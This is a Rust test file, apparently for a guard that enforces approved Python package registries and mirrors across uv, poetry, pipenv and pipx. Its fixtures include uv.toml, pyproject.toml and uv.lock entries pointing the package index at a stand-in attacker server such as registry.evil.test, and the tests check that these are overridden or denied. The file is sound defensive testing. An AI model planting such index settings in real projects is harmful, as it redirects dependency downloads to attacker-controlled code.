        l("uv.toml with approved settings", "uv", &["pip", "install", "x"], &[], &[("work/uv.toml", format!("index-url = \"{idx}\"\n[[index]]\nurl = \"https://pypi.example.com/simple/\"\n"))]),
        l("uvx approved tool", "uvx", &["pw-py-tool"], &[], &[]),
        l("uvx local path", "uvx", &["--from", "./tools/t", "t"], &[], &[]),
        l("poetry --version", "poetry", &["--version"], &[], &[]),
        l("poetry install, approved primary source and lock", "poetry", &["install"], &[], &[("work/pyproject.toml", poetry.clone()), ("work/poetry.lock", poetry_lock.clone())]),
        l("poetry add local path", "poetry", &["add", "../local"], &[], &[("work/pyproject.toml", poetry.clone())]),
        l("poetry install, PyPI", "poetry", &["install"], &[], &[("work/pyproject.toml", "[project]\nname = \"app\"\n".into())]),
        l("poetry source add approved", "poetry", &["source", "add", "corp", "https://pypi.example.com/simple/"], &[], &[]),
        l("pipenv install, approved Pipfile and lock", "pipenv", &["install"], &[], &[("work/Pipfile", pipfile.into()), ("work/Pipfile.lock", pipfile_lock.into())]),
        l("pipenv install, PyPI", "pipenv", &["install", "pw-py-app"], &[], &[]),
        l("pipenv run with its own flags", "pipenv", &["run", "pip", "install", "-i", "http://not-pipenv.test/"], &[], &[]),
        l("pipx install from the approved index", "pipx", &["install", "--index-url", &idx, "pw-py-tool"], &[], &[]),
        l("pipx install local path", "pipx", &["install", "./tools/t"], &[], &[]),
        l("pipx run with app args", "pipx", &["run", "pw-py-tool", "--index-url", "http://not-pipx.test/"], &[], &[]),
    ];
    let mut failures = Vec::new();
    for c in &cases {
        let g = guarded(&policy);
        for t in ["uv", "uvx"] {
            fake(&g, t);
        }
        for (rel, text) in &c.files {
            let p = g.sb.root().join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        let env: Vec<(&str, &str)> = c.env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let args: Vec<&str> = c.args.iter().map(String::as_str).collect();
        let out = run(&g, c.tool, &args, &env);
        if out.status.code() != Some(0) || g.sb.marker(&format!("ran-{}", c.tool)).is_none() {
            failures.push(format!(
                "{}: exit {:?}\n{}",
                c.name,
                out.status.code(),
                text(&out.stderr)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn mirror_policy() -> String {
    let idx = idx();
    format!("mode = \"enforce\"\n[registries]\npypi = [\"{idx}\"]\n[mirrors]\npypi = \"{idx}\"\n")
}

#[test]
fn uv_mirror_is_forced_over_a_hostile_uv_toml_and_pyproject() {
    let g = guarded(&mirror_policy());
    let before = evil().connections().len();
    let evil_idx = format!("http://127.0.0.1:{}/simple", evil().port());
    // A cloned repo's settings point at the attacker: the default index in
    // uv.toml (and for `uv pip`, its [pip] table), and in pyproject.toml.
    let uv_toml = format!("index-url = \"{evil_idx}\"\n[pip]\nindex-url = \"{evil_idx}\"\n");
    g.sb.write("uv.toml", &uv_toml);
    let site = g.sb.root().join("site");
    // The user's environment names no index this time.
    let out = run(
        &g,
        "uv",
        &[
            "pip",
            "install",
            "--target",
            site.to_str().unwrap(),
            "pw-py-app",
        ],
        &[("UV_DEFAULT_INDEX", "")],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(site.join("pw_py_app/__init__.py").is_file());
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join("uv.toml")).unwrap(),
        uv_toml
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow");
    let forced = &inv["decision"]["forced"];
    assert_eq!(forced["mirror"], idx());
    assert!(
        forced["env"].to_string().contains("UV_DEFAULT_INDEX"),
        "{forced}"
    );
    let overridden = forced["overridden"].to_string();
    assert!(overridden.contains("uv.toml"), "{overridden}");

    // A project whose pyproject and lockfile name the attacker's index: the
    // lock is re-resolved against the mirror.
    std::fs::remove_file(g.sb.work.join("uv.toml")).unwrap();
    let pyproject = format!(
        "{PYPROJECT}\n[[tool.uv.index]]\nname = \"team\"\nurl = \"{evil_idx}\"\ndefault = true\n"
    );
    g.sb.write("pyproject.toml", &pyproject);
    g.sb.write(
        "uv.lock",
        format!("version = 1\nrevision = 3\nrequires-python = \">=3.8\"\n\n[[package]]\nname = \"pw-py-app\"\nversion = \"1.2.0\"\nsource = {{ registry = \"{evil_idx}\" }}\nwheels = [\n    {{ url = \"http://127.0.0.1:{}/pw_py_app-1.2.0-py3-none-any.whl\", hash = \"sha256:{}\" }},\n]\n", evil().port(), "0".repeat(64)),
    );
    let out = run(&g, "uv", &["sync"], &[("UV_DEFAULT_INDEX", "")]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(!installed(&g.sb.work.join(".venv"), "pw_py_app").is_empty());
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join("pyproject.toml")).unwrap(),
        pyproject
    );
    assert!(std::fs::read_to_string(g.sb.work.join("uv.lock"))
        .unwrap()
        .contains(&idx()));
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
    assert_eq!(
        evil().connections().len(),
        before,
        "the configured index was contacted"
    );
}

#[test]
fn uv_mirror_leaves_an_extra_index_it_cannot_remove_to_be_denied() {
    let g = guarded(&mirror_policy());
    let before = evil().connections().len();
    let pyproject = format!(
        "{PYPROJECT}\n[[tool.uv.index]]\nname = \"extra\"\nurl = \"http://127.0.0.1:{}/simple\"\n",
        evil().port()
    );
    g.sb.write("pyproject.toml", &pyproject);
    let out = run(&g, "uv", &["lock"], &[("UV_DEFAULT_INDEX", "")]);
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(
        err.contains(&format!("{}/pyproject.toml:9", g.sb.work.display())),
        "{err}"
    );
    assert_eq!(evil().connections().len(), before);
}

#[test]
fn denial_message_names_the_uv_setting() {
    let g = guarded(&policy());
    g.sb.write(
        "uv.toml",
        "# team settings\nindex-url = \"http://registry.evil.test/simple\"\n",
    );
    let out = run(&g, "uv", &["pip", "install", "left-pad"], &[]);
    assert_eq!(out.status.code(), Some(77));
    let err = text(&out.stderr);
    let work = g.sb.work.display().to_string();
    assert!(
        err.contains(&format!(
            "{work}/uv.toml:2 sets index-url = http://registry.evil.test/simple"
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!("approved pypi registries: {}", idx())),
        "{err}"
    );
    assert!(out.stdout.is_empty());
    let _: Option<OsString> = None;
}
